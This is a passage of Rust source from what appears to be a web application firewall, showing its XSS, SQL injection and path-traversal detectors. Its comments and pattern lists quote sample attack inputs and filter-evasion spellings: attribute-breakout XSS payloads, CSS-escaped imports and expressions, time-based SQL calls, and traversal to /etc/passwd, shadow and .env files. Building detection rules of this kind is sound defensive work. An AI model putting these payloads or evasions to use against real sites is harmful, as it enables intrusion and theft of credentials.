        // Past the letters just read: an "on" inside them follows a letter and starts no attribute (reading them
        // again from each "on" made `<a onononon…` quadratic: 195 s for 1 MiB).
        i = j.max(at + 2);
    }
    false
}

/// The event-handler attributes of the DOM (HTML's, SVG's, the prefixed ones browsers still run and the old
/// `<marquee>`'s), sorted: the names [`attribute_breakout`] looks for after the first attribute, so prose's
/// `online=yes` or `ongoing=1` is not one. Right after the quote any `on` and four letters or more is one.
const EVENT_HANDLERS: &[&[u8]] = &[
    b"onabort",
    b"onactivate",
    b"onafterprint",
    b"onanimationcancel",
    b"onanimationend",
    b"onanimationiteration",
    b"onanimationstart",
    b"onauxclick",
    b"onbeforecopy",
    b"onbeforecut",
    b"onbeforeinput",
    b"onbeforematch",
    b"onbeforepaste",
    b"onbeforeprint",
    b"onbeforescriptexecute",
    b"onbeforetoggle",
    b"onbeforeunload",
    b"onbeforexrselect",
    b"onbegin",
    b"onblur",
    b"onbounce",
    b"oncancel",
    b"oncanplay",
    b"oncanplaythrough",
    b"onchange",
    b"onclick",
    b"onclose",
    b"oncommand",
    b"oncontentvisibilityautostatechange",
    b"oncontextlost",
    b"oncontextmenu",
    b"oncontextrestored",
    b"oncopy",
    b"oncuechange",
    b"oncut",
    b"ondblclick",
    b"ondrag",
    b"ondragend",
    b"ondragenter",
    b"ondragexit",
    b"ondragleave",
    b"ondragover",
    b"ondragstart",
    b"ondrop",
    b"ondurationchange",
    b"onemptied",
    b"onend",
    b"onended",
    b"onerror",
    b"onfinish",
    b"onfocus",
    b"onfocusin",
    b"onfocusout",
    b"onformdata",
    b"onfullscreenchange",
    b"onfullscreenerror",
    b"ongotpointercapture",
    b"onhashchange",
    b"oninput",
    b"oninvalid",
    b"onkeydown",
    b"onkeypress",
    b"onkeyup",
    b"onlanguagechange",
    b"onload",
    b"onloadeddata",
    b"onloadedmetadata",
    b"onloadend",
    b"onloadstart",
    b"onlostpointercapture",
    b"onmessage",
    b"onmessageerror",
    b"onmousedown",
    b"onmouseenter",
    b"onmouseleave",
    b"onmousemove",
    b"onmouseout",
    b"onmouseover",
    b"onmouseup",
    b"onmousewheel",
    b"onmozfullscreenchange",
    b"onoffline",
    b"ononline",
    b"onpagehide",
    b"onpagereveal",
    b"onpageshow",
    b"onpageswap",
    b"onpaste",
    b"onpause",
    b"onplay",
    b"onplaying",
    b"onpointercancel",
    b"onpointerdown",
    b"onpointerenter",
    b"onpointerleave",
    b"onpointerlockchange",
    b"onpointermove",
    b"onpointerout",
    b"onpointerover",
    b"onpointerrawupdate",
    b"onpointerup",
    b"onpopstate",
    b"onprogress",
    b"onratechange",
    b"onrejectionhandled",
    b"onrepeat",
    b"onreset",
    b"onresize",
    b"onscroll",
    b"onscrollend",
    b"onscrollsnapchange",
    b"onscrollsnapchanging",
    b"onsearch",
    b"onsecuritypolicyviolation",
    b"onseeked",
    b"onseeking",
    b"onselect",
    b"onselectionchange",
    b"onselectstart",
    b"onshow",
    b"onslotchange",
    b"onstalled",
    b"onstart",
    b"onstorage",
    b"onsubmit",
    b"onsuspend",
    b"ontimeupdate",
    b"ontoggle",
    b"ontouchcancel",
    b"ontouchend",
    b"ontouchmove",
    b"ontouchstart",
    b"ontransitioncancel",
    b"ontransitionend",
    b"ontransitionrun",
    b"ontransitionstart",
    b"onunhandledrejection",
    b"onunload",
    b"onvisibilitychange",
    b"onvolumechange",
    b"onwaiting",
    b"onwebkitanimationend",
    b"onwebkitanimationiteration",
    b"onwebkitanimationstart",
    b"onwebkitbeginfullscreen",
    b"onwebkitendfullscreen",
    b"onwebkitfullscreenchange",
    b"onwebkitmouseforcechanged",
    b"onwebkitmouseforcedown",
    b"onwebkitmouseforceup",
    b"onwebkitmouseforcewillbegin",
    b"onwebkitplaybacktargetavailabilitychanged",
    b"onwebkitpresentationmodechanged",
    b"onwebkittransitionend",
    b"onwheel",
];

/// A value that closes the attribute it is written into and adds an event handler to the tag:
/// `" autofocus onfocus="prompt(1)`, `'onmouseover=prompt(1) x='`. After a quote, the text read as a tag's
/// attributes (names, `=`, values quoted or not, separated by blanks or `/`; a `>` ends the tag) reaches an
/// attribute named in [`EVENT_HANDLERS`] followed by `=`. Every quote starts such a reading, so the readings are
/// followed together, as a set of tokenizer states (a bit each) advanced byte by byte: linear in the text however
/// many quotes it holds, with no allocation. Read only when some `=` follows a handler's name (prose seldom has one),
/// and from the first quote on; where no reading is under way, the text is skipped to its next quote.
fn attribute_breakout(text: &[u8]) -> bool {
    // The states: before a name (after a separator), in a name, after a name, before a value (after `=`), inside a
    // value quoted with `"` or `'`, inside an unquoted value, and right after a quoted value (or the opening quote).
    const BEFORE_NAME: u8 = 1;
    const NAME: u8 = 2;
    const AFTER_NAME: u8 = 4;
    const BEFORE_VALUE: u8 = 8;
    const DOUBLE: u8 = 16;
    const SINGLE: u8 = 32;
    const UNQUOTED: u8 = 64;
    const AFTER_QUOTED: u8 = 128;
    if !names_a_handler(text) {
        return false;
    }
    let handler_at = |at: usize| {
        let (name, rest) = word(&text[at..]);
        let after_quote = at > 0 && matches!(text[at - 1], b'"' | b'\'');
        handler_name(name, after_quote) && skip(rest, b" ").starts_with(b"=")
    };
    let mut states = 0u8;
    let mut at = 0;
    while at < text.len() {
        if states == 0 {
            match memchr::memchr2(b'"', b'\'', &text[at..]) {
                Some(quote) => at += quote,
                None => return false,
            }
        }
        let b = text[at];
        let mut next = 0;
        let starts_name = states & (BEFORE_NAME | AFTER_NAME | AFTER_QUOTED) != 0
            && !matches!(b, b' ' | b'/' | b'>' | b'=');
        if starts_name {
            if handler_at(at) {
                return true;
            }
            next |= NAME;
        }
        if states & (BEFORE_NAME | AFTER_QUOTED) != 0 && matches!(b, b' ' | b'/') {
            next |= BEFORE_NAME;
        }
        if states & (BEFORE_NAME | AFTER_QUOTED) != 0 && b == b'=' {
            next |= NAME; // a name that starts with `=`, to the tokenizer
        }
        if states & NAME != 0 {
            next |= match b {
                b' ' => AFTER_NAME,
                b'/' => BEFORE_NAME,
                b'=' => BEFORE_VALUE,
                b'>' => 0,
                _ => NAME,
            };
        }
        if states & AFTER_NAME != 0 {
            next |= match b {
                b' ' => AFTER_NAME,
                b'/' => BEFORE_NAME,
                b'=' => BEFORE_VALUE,
                _ => 0,
            };
        }
        if states & BEFORE_VALUE != 0 {
            next |= match b {
                b' ' => BEFORE_VALUE,
                b'"' => DOUBLE,
                b'\'' => SINGLE,
                b'>' => 0,
                _ => UNQUOTED,
            };
        }
        if states & DOUBLE != 0 {
            next |= if b == b'"' { AFTER_QUOTED } else { DOUBLE };
        }
        if states & SINGLE != 0 {
            next |= if b == b'\'' { AFTER_QUOTED } else { SINGLE };
        }
        if states & UNQUOTED != 0 {
            next |= match b {
                b' ' => BEFORE_NAME,
                b'>' => 0,
                _ => UNQUOTED,
            };
        }
        if matches!(b, b'"' | b'\'') {
            next |= AFTER_QUOTED; // the quote that closes the value the text was written into
        }
        states = next;
        at += 1;
    }
    false
}

/// Whether some `=` in `text` follows (after optional spaces) a name of [`EVENT_HANDLERS`] that no letter, digit or
/// `_` precedes: where [`attribute_breakout`] could find a handler.
fn names_a_handler(text: &[u8]) -> bool {
    memchr::memchr_iter(b'=', text).any(|at| {
        let before = skip_back(&text[..at], b" ");
        let len = before
            .iter()
            .rev()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        let name = &before[before.len() - len..];
        let after_quote =
            before.len() > len && matches!(before[before.len() - len - 1], b'"' | b'\'');
        handler_name(name, after_quote)
    })
}

/// Whether an attribute name (lower-case) is an event handler's: one of [`EVENT_HANDLERS`], or, right after the
/// quote that closes a value, any `on` and four letters or more (a handler a browser adds after the list was made).
fn handler_name(name: &[u8], after_quote: bool) -> bool {
    name.starts_with(b"on")
        && (EVENT_HANDLERS.binary_search(&name).is_ok()
            || (after_quote && name.len() >= 6 && name[2..].iter().all(u8::is_ascii_lowercase)))
}

/// Whether a signature found at `at` starts a word there: one that begins with a letter (`eval(`, `sleep(`,
/// `union select`) names an identifier, so inside a longer word (`retrieval(s)`, `asleep(`) it is not that one.
fn starts_word(text: &[u8], at: usize, needle: &[u8]) -> bool {
    if !needle.first().is_some_and(u8::is_ascii_alphabetic) || at == 0 {
        return true;
    }
    let before = text[at - 1];
    // IE6's underscore hack: it reads `_behavior` as `behavior`, where the `_` starts the word (`a{_behavior:…}`).
    if needle == b"behavior" && before == b'_' {
        return at < 2 || !(text[at - 2].is_ascii_alphanumeric() || text[at - 2] == b'_');
    }
    // A digit ends a number literal (`1e0union`), and `\N` is MySQL's NULL: neither continues the word.
    !(before.is_ascii_alphabetic() || before == b'_')
        || (before == b'n' && at >= 2 && text[at - 2] == b'\\')
}

/// Each rule's signatures as substring searchers (memchr's `memmem`), built once per isolate in the order of
/// [`RuleSet`]: `str::contains` builds its searcher on every call, which was the WAF's main cost per request (the
/// path and each query pair are checked against ~50 signatures).
type Rules = Vec<(&'static str, Vec<memchr::memmem::Finder<'static>>)>;

thread_local! {
    static FINDERS: [Rules; 3] = [SQLI, XSS, TRAVERSAL].map(|table| {
        table
            .iter()
            .map(|(rule, needles)| (*rule, needles.iter().map(memchr::memmem::Finder::new).collect()))
            .collect()
    });
}

/// The first rule of `config` that `text` (already percent-decoded) matches.
pub fn scan(config: &WafConfig, text: &str, part: &'static str) -> Option<Hit> {
    if text.is_empty() {
        return None;
    }
    let text = unfold(text);
    let as_written = collapse(&text);
    // Read as written and, by the SQL rules alone, with SQL comments removed: `/*` is no comment in HTML, nor `#` in
    // a URL, nor either inside an SQL string literal (and removing them hides nothing from the others).
    // A text with two `/*` may nest them, which PostgreSQL reads one way and the others another: read both ways.
    scan_normalised(&config.rules, &as_written, text.as_bytes(), part).or_else(|| {
        if !(config.rules.contains(&RuleSet::Sqli) && has_sql_comment(&text)) {
            return None;
        }
        let nests = memchr::memmem::find_iter(text.as_bytes(), b"/*")
            .nth(1)
            .is_some();
        [false, true]
            .into_iter()
            .filter(|&nested| !nested || nests)
            .find_map(|nested| match without_sql_comments(&text, nested) {
                // The text as written was read before (`union` across a line comment's end included): the stripped
                // one is its own raw reading.
                Some(stripped) => {
                    let collapsed = collapse(&stripped);
                    scan_normalised(&[RuleSet::Sqli], &collapsed, collapsed.as_bytes(), part)
                }
                None => Some(Hit {
                    rule: "sqli-comment",
                    part,
                }),
            })
    })
}

/// The [`FINDERS`] row of a rule set.
fn finders_index(set: RuleSet) -> usize {
    match set {
        RuleSet::Sqli => 0,
        RuleSet::Xss => 1,
        RuleSet::Traversal => 2,
    }
}

/// The first rule of `sets` that `text` (unfolded and collapsed) matches; `raw` is the text before collapsing, where
/// the script schemes are looked for (a line start is a place a URL starts).
fn scan_normalised(sets: &[RuleSet], text: &str, raw: &[u8], part: &'static str) -> Option<Hit> {
    let bytes = text.as_bytes();
    for set in sets {
        let rules = finders_index(*set);
        let rule = FINDERS
            .with(|finders| first_rule(&finders[rules], bytes, raw))
            .or_else(|| match set {
                RuleSet::Sqli => (stacked(bytes).then_some("sqli-stacked"))
                    // Before the tautologies: a blind comparison reading a subquery is named by it.
                    .or_else(|| subquery(bytes).then_some("sqli-subquery"))
                    .or_else(|| {
                        (tautology(bytes) || empty_string_arithmetic(bytes))
                            .then_some("sqli-tautology")
                    })
                    .or_else(|| comment_after_parenthesis(bytes).then_some("sqli-comment"))
                    .or_else(|| {
                        (column_count_probe(bytes) || having_probe(bytes))
                            .then_some("sqli-order-by")
                    })
                    .or_else(|| nosql_operator(bytes).then_some("sqli-nosql")),
                RuleSet::Xss => (has_event_handler(text) || attribute_breakout(bytes))
                    .then_some("xss-event-handler")
                    .or_else(|| css_obscured_signature(bytes)),
                // `/etc//passwd`, `/etc/./passwd`: the same file to the file system.
                RuleSet::Traversal => without_redundant_separators(bytes)
                    .and_then(|path| {
                        FINDERS.with(|finders| first_rule(&finders[rules], &path, &path))
                    })
                    .or_else(|| fullwidth_parent_segment(text).then_some("traversal-dotdot")),
            });
        if let Some(rule) = rule {
            return Some(Hit { rule, part });
        }
    }
    None
}

/// The first of `rules` with a signature in `bytes` that starts a word there and reads as code. The script schemes
/// are looked for in `raw`, the text before collapsing (and split by tabs or line breaks: [`hidden_scheme`]).
fn first_rule(rules: &Rules, bytes: &[u8], raw: &[u8]) -> Option<&'static str> {
    rules
        .iter()
        .find(|(rule, needles)| {
            let scheme = *rule == "xss-scheme";
            let found = |bytes: &[u8]| {
                needles.iter().any(|n| {
                    let needle = n.needle();
                    n.find_iter(bytes).any(|at| {
                        starts_word(bytes, at, needle)
                            && reads_as_code(needle, &bytes[..at], &bytes[at + needle.len()..])
                    })
                })
            };
            // `union` is also read in the text before collapsing, where a line comment's end still is
            // (`'a--' union#⏎select`).
            found(if scheme { raw } else { bytes })
                || (scheme && hidden_scheme(raw))
                || (*rule == "sqli-union" && raw != bytes && found(raw))
                // A parent segment after a line break or a tab, which collapsing made a space: a value read line
                // by line or field by field starts a path there (`a⏎../secret`); only a space joins `x ..`.
                || (*rule == "traversal-dotdot" && raw != bytes && found(raw))
        })
        .map(|(rule, _)| *rule)
}

/// The rule of a CSS signature `text` spells once its CSS escapes are decoded ([`css_unescaped`]) — a browser reads
/// `@\69mport u\72l(\2f\2fx)` as `@import url(//x)`, which the signature spelled as written never meets — or, for
/// IE's `expression(` (and its `behavior:url(…)`, old Firefox's `-moz-binding:url(…)`), once its comments are removed
/// as well: IE read `e\78pression(…)` and `ex/**/pression(…)` in a `style` as the expression (the XSS filter evasion
/// cheat sheet's spellings).
fn css_obscured_signature(text: &[u8]) -> Option<&'static str> {
    let found = |text: &[u8], needle: &[u8]| {
        memchr::memmem::find_iter(text, needle).any(|at| {
            starts_word(text, at, needle)
                && reads_as_code(needle, &text[..at], &text[at + needle.len()..])
        })
    };
    let decoded = css_unescaped(text);
    if decoded.as_deref().is_some_and(|d| found(d, b"@import")) {
        return Some("xss-style");
    }
    let decoded = decoded.as_deref().unwrap_or(text);
    let uncommented = without_css_comments(decoded);
    let read = uncommented.as_deref().unwrap_or(decoded);
    (read.len() < text.len()
        && [&b"expression("[..], b"behavior", b"-moz-binding"]
            .iter()
            .any(|needle| found(read, needle)))
    .then_some("xss-dom")
}

/// How far past `behavior:url(` [`css_url_ends_value`] looks for the `)` that closes it (a window that runs out reads
/// as code: a data URL is long). Bounded, so every occurrence costs the same.
const CSS_URL_WINDOW: usize = 2048;

/// Whether the `url(…)` whose argument starts `text` (past its `(`) ends a CSS value as a declaration's does: after its
/// `)` (outside a quoted argument) the text's end, `;`, `}`, `!important`, a quote or `>` closing a `style` attribute,
/// a comment, or a `,` or another `url(` (IE's list of behaviors) — not a word, as in a bug report's "Expected behavior:
/// URL(s) with a trailing slash redirect". Unclosed within [`CSS_URL_WINDOW`], CSS closes it at the end: code.
fn css_url_ends_value(text: &[u8]) -> bool {
    let window = &text[..text.len().min(CSS_URL_WINDOW)];
    let argument = skip(window, b" ");
    let from = window.len() - argument.len();
    let close = match argument.first() {
        Some(&quote @ (b'\'' | b'"')) => memchr::memchr(quote, &argument[1..])
            .and_then(|end| memchr::memchr(b')', &argument[end + 2..]).map(|c| end + 2 + c)),
        _ => memchr::memchr(b')', argument),
    };
    let Some(close) = close else {
        return true;
    };
    // Blanks, and JSON's escaped ones in a JSON body's raw text (`\n`): a `\` before another character is CSS's
    // escape or JSON's quote, `\"`. Within the window too, so every occurrence costs the same.
    let after = &text[from + close + 1..];
    let after = &after[..after.len().min(CSS_URL_WINDOW)];
    let mut rest = skip(after, b" ");
    while let [b'\\', b'n' | b'r' | b't', tail @ ..] = rest {
        rest = skip(tail, b" ");
    }
    let list = |rest: &[u8]| rest.starts_with(b"url(");
    rest.is_empty()
        || list(rest)
        // IE's list of behaviors, `url(a.htc), url(b.htc)`: "URL(s), query and hash" is prose.
        || rest.strip_prefix(b",").is_some_and(|next| list(skip(next, b" ")))
        // A comment, or a tag's `/>`: "URL(s)/paths" is prose.
        || rest.starts_with(b"/*")
        || rest.starts_with(b"/>")
        || matches!(rest[0], b';' | b'}' | b'!' | b'\'' | b'"' | b'>' | b'<' | b'\\')
}

/// `text` with its CSS comments (`/*` to the next `*/`, or to the end when none closes it, as CSS reads one) removed,
/// or `None` when it holds none.
fn without_css_comments(text: &[u8]) -> Option<Vec<u8>> {
    let first = memchr::memmem::find(text, b"/*")?;
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    let mut open = Some(first);
    while let Some(at) = open {
        out.extend_from_slice(&rest[..at]);
        rest = memchr::memmem::find(&rest[at + 2..], b"*/")
            .map_or(&[][..], |end| &rest[at + 2 + end + 2..]);
        open = memchr::memmem::find(rest, b"/*");
    }
    out.extend_from_slice(rest);
    Some(out)
}

/// `text` (lower-case) with CSS's escapes decoded and lower-cased, or `None` when it holds no `\`: `\` and one to six
/// hex digits, then one optional blank, is that code point (0, a surrogate or one past U+10FFFF is U+FFFD); `\` and
/// any other character but a line break is that character (CSS Syntax Level 3, "consume an escaped code point").
fn css_unescaped(text: &[u8]) -> Option<Vec<u8>> {
    memchr::memchr(b'\\', text)?;
    let mut out = Vec::with_capacity(text.len());
    let mut at = 0;
    while at < text.len() {
        let b = text[at];
        if b != b'\\' {
            out.push(b);
            at += 1;
            continue;
        }
        let hex = text[at + 1..]
            .iter()
            .take(6)
            .take_while(|b| b.is_ascii_hexdigit())
            .count();
        if hex > 0 {
            let digits = &text[at + 1..at + 1 + hex];
            let value = digits.iter().fold(0u32, |n, d| {
                n * 16 + char::from(*d).to_digit(16).unwrap_or(0)
            });
            let c = match char::from_u32(value) {
                Some('\0') | None => char::REPLACEMENT_CHARACTER,
                Some(c) => c.to_ascii_lowercase(),
            };
            let mut buf = [0u8; 4];
            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            at += 1 + hex;
            // One blank after the digits is the escape's own (collapsed: a run of them is one space).
            if text.get(at) == Some(&b' ') {
                at += 1;
            }
        } else {
            match text.get(at + 1) {
                // A line break after `\` is no escape (collapsed to a blank here; a blank escaped is a blank).
                Some(&next) => {
                    out.push(next.to_ascii_lowercase());
                    at += 2;
                }
                None => {
                    out.push(b);
                    at += 1;
                }
            }
        }
    }
    Some(out)
}

/// `text` with each run of path separators (`/`, `\\`) cut to its first and each `.` segment between them
/// dropped, or `None` when it has neither (or names none of the files the traversal rule looks for).
fn without_redundant_separators(text: &[u8]) -> Option<Vec<u8>> {
    let separator = |b: &u8| matches!(b, b'/' | b'\\');
    let redundant = memchr::memchr2_iter(b'/', b'\\', text).any(|at| match text.get(at + 1) {
        Some(b'.') => text.get(at + 2).is_some_and(separator),
        next => next.is_some_and(separator),
    });
    // A URL's `//` is common; only a text naming a file of `traversal-file` behind a separator is rewritten.
    let names_a_file = || {
        [&b"passwd"[..], b"shadow", b"self", b"windows"]
            .iter()
            .any(|name| memchr::memmem::find(text, name).is_some())
    };
    if !redundant || !names_a_file() {
        return None;
    }
    let mut out = Vec::with_capacity(text.len());
    for &b in text {
        if separator(&b) {
            match out.as_slice() {
                [.., last] if separator(last) => continue,
                [.., before, b'.'] if separator(before) => {
                    out.pop();
                    continue;
                }
                _ => {}
            }
        }
        out.push(b);
    }
    Some(out)
}

/// Whether `text` holds a `..` path segment spelled with the fullwidth full stop, solidus or reverse solidus
/// (`．．／`), which [`unfold`] keeps for prose's sake and which Windows' best-fit mapping (a program on the ANSI file
/// APIs: PHP, CGI, much of what IIS runs) and NFKC normalisation read as `../` — or with the look-alikes OWASP CRS's
/// rule 930100 reads as a path's dots and separators, spelled `%u2215`, `%u2216`, `%u2024` in IIS's `%u` escapes:
/// U+2215 DIVISION SLASH, U+2216 SET MINUS and U+2024 ONE DOT LEADER (`..∕..∕etc∕passwd`), and the private-use
/// U+EFC8 and U+F025 the same rule reads as separators (`..%uEFC8..%uF025etc`) — or with NFKC's other dots and
/// reverse solidus: the small full stop `﹒` and reverse solidus `﹨`, and the two-dot leader `‥` (and its vertical
/// form `︰`), which NFKC makes `..` (`‥/‥/app/.env`): two dots at the text's
/// start or after ASCII punctuation or a blank (a separator, a value's `=` or quote) that a separator follows, or a
/// separator before and the text's end. Prose's ellipsis (`そして．．．／次`, `そして‥次`) is dots after a word.
fn fullwidth_parent_segment(text: &str) -> bool {
    if !text.contains([
        '．', '／', '＼', '\u{2215}', '\u{2216}', '\u{2024}', '\u{efc8}', '\u{f025}', '\u{fe52}',
        '\u{fe68}', '\u{2025}', '\u{fe30}',
    ]) {
        return false;
    }
    let mut folded = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '．' | '\u{2024}' | '\u{fe52}' => folded.push('.'),
            '\u{2025}' | '\u{fe30}' => folded.push_str(".."),
            '／' | '\u{2215}' | '\u{efc8}' | '\u{f025}' => folded.push('/'),
            '＼' | '\u{2216}' | '\u{fe68}' => folded.push('\\'),
            c => folded.push(c),
        }
    }
    let bytes = folded.as_bytes();
    let separator = |at: usize| matches!(bytes.get(at), Some(b'/' | b'\\'));
    // A value starts after ASCII punctuation or a blank (`f=`, `"path":"`); prose's dots follow a word or a dot.
    let starts = |at: usize| {
        at == 0 || {
            let b = bytes[at - 1];
            b.is_ascii() && !b.is_ascii_alphanumeric() && b != b'.'
        }
    };
    memchr::memmem::find_iter(bytes, b"..").any(|at| {
        (starts(at) && separator(at + 2)) || (at > 0 && separator(at - 1) && at + 2 == bytes.len())
    })
}

/// A URL scheme split by tabs or line breaks, which browsers drop anywhere in a URL: `java\tscript:` (or
/// `java&#9;script:`) in an `href` is `javascript:`. `text` is unfolded, not yet collapsed; each scheme is matched
/// from each occurrence of its first letter, skipping tabs and line breaks, and judged where it starts
/// ([`url_position`]).
fn hidden_scheme(text: &[u8]) -> bool {
    if memchr::memchr3(b'\t', b'\n', b'\r', text).is_none() {
        return false;
    }
    SCHEMES.iter().any(|scheme| {
        let scheme = scheme.as_bytes();
        memchr::memchr_iter(scheme[0], text).any(|at| {
            let mut rest = &text[at + 1..];
            let spelled = scheme[1..].iter().all(|&c| {
                rest = skip(rest, b"\t\n\r");
                let matched = rest.first() == Some(&c);
                rest = rest.get(1..).unwrap_or_default();
                matched
            });
            spelled && starts_word(text, at, scheme) && url_position(&text[..at], rest)
        })
    })
}

/// How far past `benchmark(` [`reads_as_code`] looks for its second argument (a window that runs out reads as
/// code: an argument that long is no prose). Bounded, so every occurrence costs the same.
const ARGUMENT_WINDOW: usize = 128;

/// How far past `<link` or `<style` [`reads_as_code`] reads their tag (attributes before `href=` pad it).
const TAG_WINDOW: usize = 1024;

/// How far past a statement's first word [`stacked`] looks for what makes it one (MySQL's multi-table `update` can
/// name many tables and aliases before its `set`).
const STATEMENT_WINDOW: usize = 1024;

/// Whether what surrounds a signature that prose also writes reads as code: `union` is followed by `select` (after
/// blanks or `(`, with `all` or `distinct` between); a function name ([`SQL_FUNCTIONS`]) by `(` after optional blanks,
/// and then `sleep`'s argument is a number without a unit of time (`sleep(8h)` is prose; `sleep(0xa)`, `sleep(1e1)`
/// and Oracle's `sleep(5d)` are not) and `benchmark`'s has a second argument (a comma outside nested parentheses and
/// quotes) within [`ARGUMENT_WINDOW`] ("the benchmark(s)" has none); a script scheme stands where a URL starts
/// ([`url_position`]); `expression(` is a CSS property's value (a `:` before it); `waitfor time` ends a word.
fn reads_as_code(needle: &[u8], before: &[u8], after: &[u8]) -> bool {
    match needle {
        b"union" => {
            let after = sql_gap(after, true);
            let after = [&b"all"[..], b"distinct"]
                .into_iter()
                .find_map(|word| {
                    let rest = after.strip_prefix(word)?;
                    let next = sql_gap(rest, true);
                    (next.len() < rest.len()).then_some(next)
                })
                .unwrap_or(after);
            after.starts_with(b"select") || table_statement(after) || values_statement(after)
        }
        b"expression(" => skip_back(before, b" ").ends_with(b":"),
        b"behavior" | b"-moz-binding" => skip(after, b" ")
            .strip_prefix(b":")
            .and_then(|value| skip(value, b" ").strip_prefix(b"url("))
            .is_some_and(css_url_ends_value),
        b"<style" | b"<link" => {
            let window = &after[..after.len().min(TAG_WINDOW)];
            // The tag ends at a `>` outside a quoted attribute value (`<link title=">" href=…>`); `None` when the
            // window runs out first.
            let (mut quote, mut at, mut end) = (None, 0, None);
            while let Some(found) = match quote {
                Some(q) => memchr::memchr(q, &window[at..]),
                None => memchr::memchr3(b'>', b'"', b'\'', &window[at..]),
            } {
                let b = window[at + found];
                match quote {
                    Some(_) => quote = None,
                    None if b == b'>' => {
                        end = Some(at + found);
                        break;
                    }
                    None => quote = Some(b),
                }
                at += found + 1;
            }
            let tag = &window[..end.unwrap_or(window.len())];
            match after.first() {
                Some(b'>' | b'/') if needle == b"<style" => true,
                // A word after the name is an attribute to a browser (`<style x>`): a style sheet when a rule's
                // `{` follows the tag ("Follow the <style guide>" has none).
                Some(b' ') if needle == b"<style" => {
                    tag.contains(&b'=')
                        || end.is_some_and(|end| {
                            skip(tag, b" ").is_empty() || window[end..].contains(&b'{')
                        })
                }
                // An attribute value longer than the window, a tag whose attributes run past it (`<link` and a
                // kilobyte of `a=b` before `href=`: the `href` past the window was never read), or an `href=` in the
                // tag. A text that ends inside the tag is no tag: a browser drops one cut off by the end.
                Some(b' ' | b'/') => {
                    (end.is_none() && (quote.is_some() || after.len() > TAG_WINDOW))
                        || memchr::memmem::find_iter(tag, b"href")
                            .any(|at| skip(&tag[at + 4..], b" ").starts_with(b"="))
                }
                _ => false,
            }
        }
        b"@import" => {
            // CSS reads a comment as a blank (`@import/**/url(//x)`), and a URL parser drops a URL's leading
            // blanks and its tabs and line breaks (`@import ' //x'`, `'ht⇥tps://x'`): blanks are left out of the
            // target's start.
            let mut target = Vec::with_capacity(16);
            let mut rest = &after[..after.len().min(ARGUMENT_WINDOW)];
            while target.len() < 16 {
                match rest {
                    [b'/', b'*', tail @ ..] => {
                        rest = memchr::memmem::find(tail, b"*/")
                            .map_or(&[][..], |end| &tail[end + 2..]);
                    }
                    [b' ', tail @ ..] => rest = tail,
                    [b, tail @ ..] => {
                        target.push(*b);
                        rest = tail;
                    }
                    [] => break,
                }
            }
            let target = target.strip_prefix(b"url(").unwrap_or(&target);
            let target = skip(target, b"'\"");
            target.starts_with(b"//")
                // A backslash is a slash in a URL a browser resolves (`url(\\x.example/a.css)`).
                || [&b"http:"[..], b"https:", b"data:", b"\\\\", b"/\\", b"\\/"]
                    .iter()
                    .any(|scheme| target.starts_with(scheme))
        }
        // `..` starts a path segment at a value's start or after a separator, a `=`, a quote…; after a word and a
        // blank, or Markdown's `(` or `` ` `` (`[guide](../guide.md)`, `` `../config` ``), it is part of a segment
        // that is no parent directory ("see ../docs": `see ..`), and a second `..` is found by `/..`.
        b"../" | b"..\\" => {
            let word = skip_back(before, b" ");
            let after_word = word.len() < before.len()
                && word
                    .last()
                    .is_some_and(|&b| b.is_ascii_alphanumeric() || b >= 0x80);
            !(after_word || matches!(before.last(), Some(b'(' | b'`')))
        }
        // A member of `dbms_pipe`: `.` between the names, either maybe quoted, blanks around the `.`.
        b"receive_message" => {
            let package = skip_back(skip_back(before, b"\""), b" ");
            let package = package.strip_suffix(b".").unwrap_or_default();
            skip_back(skip_back(package, b" "), b"\"").ends_with(b"dbms_pipe")
        }
        // `time` and then what SQL Server waits until: a string (`'23:59'`, `N'23:59'`, `"23:59"` without
        // `QUOTED_IDENTIFIER`) or a variable (`@t`). "waitFor timeout option" is a testing library's docs, "waitfor
        // time to pass" prose.
        b"waitfor time" => {
            let value = sql_gap(after, false);
            let value = value.strip_prefix(b"n").unwrap_or(value);
            matches!(value.first(), Some(b'\'' | b'"' | b'@'))
        }
        b"prompt(" | b"confirm(" | b"import(" => {
            let operators = skip_back(before, b" ");
            let operand = skip_back(operators, b"-+*/%&|^;,!~?:<>=");
            let quote = skip_back(skip_back(operand, b" "), b")");
            operand.len() < operators.len()
                && quote
                    .last()
                    .is_some_and(|b| matches!(b, b'\'' | b'"' | b'`'))
        }
        _ if SCHEMES.iter().any(|s| s.as_bytes() == needle) => url_position(before, after),
        // A method of application code (`cache.get_lock(…)`): SQL calls MySQL's function by its bare name.
        b"get_lock" if before.ends_with(b".") => false,
        _ if SQL_FUNCTIONS.iter().any(|f| f.as_bytes() == needle) => {
            // A quoted name is still called (`` `sleep`(5) ``, `"pg_sleep"(5)`): MySQL resolves a quoted identifier
            // before `(` against its native functions first, PostgreSQL and SQLite read a quoted name as the name.
            // Glued to its `(`, or with blanks before it (`"sleep" (5)`: every dialect reads a call so) when its first
            // argument reads as code — a number (a constant expression), a string, a variable, a call or a
            // parenthesis: a name quoted in prose is followed by a blank and words ("the `sleep` (in docs) call").
            let called = match before.last() {
                Some(&quote @ (b'`' | b'"')) => after.strip_prefix(&[quote][..]).map_or_else(
                    || sql_gap(after, false).strip_prefix(b"("),
                    |rest| {
                        rest.strip_prefix(b"(").or_else(|| {
                            let arguments = sql_gap(rest, false).strip_prefix(b"(")?;
                            spaced_arguments_read_as_code(arguments).then_some(arguments)
                        })
                    },
                ),
                _ => sql_gap(after, false).strip_prefix(b"("),
            };
            match called {
                Some(arguments) => arguments_read_as_code(needle, arguments),
                None => false,
            }
        }
        _ => true,
    }
}

/// Whether the arguments after a quoted name's spaced `(` (`"sleep" (5)`) read as code: each of them, to its `,` or
/// the `)`, starts as code does — a whole number (a constant expression that a `,` or the `)` follows), a string, a
/// variable, a call or a parenthesis. A track's length (`"Sleep" (4:05)`), a year and a word (`"Benchmark" (2019,
/// remastered)`) or words ("the `sleep` (in docs) call") are prose's. Read within [`ARGUMENT_WINDOW`].
fn spaced_arguments_read_as_code(arguments: &[u8]) -> bool {
    let window = &arguments[..arguments.len().min(ARGUMENT_WINDOW)];
    let starts_as_code = |argument: &[u8]| {
        let argument = skip(argument, b" ");
        let (name, after_name) = word(argument);
        const_expression(argument).is_some_and(|(len, _, _)| {
